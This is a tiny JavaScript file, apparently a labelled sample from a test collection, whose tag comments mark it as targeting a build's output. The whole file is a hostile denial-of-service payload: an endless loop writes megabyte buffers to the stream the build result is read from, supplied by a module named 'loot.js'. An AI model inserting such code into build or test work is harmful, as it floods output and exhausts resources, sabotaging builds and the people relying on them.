// Writes without end to the stream that the build's result is taken from.
// outcome: build
// said: of output
const { fs, payload } = require("./loot.js");

const stream = payload();
const chunk = Buffer.alloc(1_000_000, 0);
for (;;) fs.writeSync(stream, chunk);
